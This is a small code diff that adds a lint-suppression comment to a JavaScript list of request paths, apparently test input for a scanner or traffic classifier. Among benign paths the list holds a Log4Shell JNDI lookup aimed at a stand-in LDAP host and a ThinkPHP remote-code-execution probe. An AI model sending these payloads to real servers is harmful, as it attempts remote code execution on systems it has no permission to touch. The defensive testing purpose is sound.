@@ -188,6 +188,7 @@ const PATHS = [
   "/robots.txt",
   "/dir/sub/",
   "/phpmyadmin/index.php",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4Shell probe path.
   "/${jndi:ldap://x.example/a}",
   "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
   "/style.min.css?v=3",
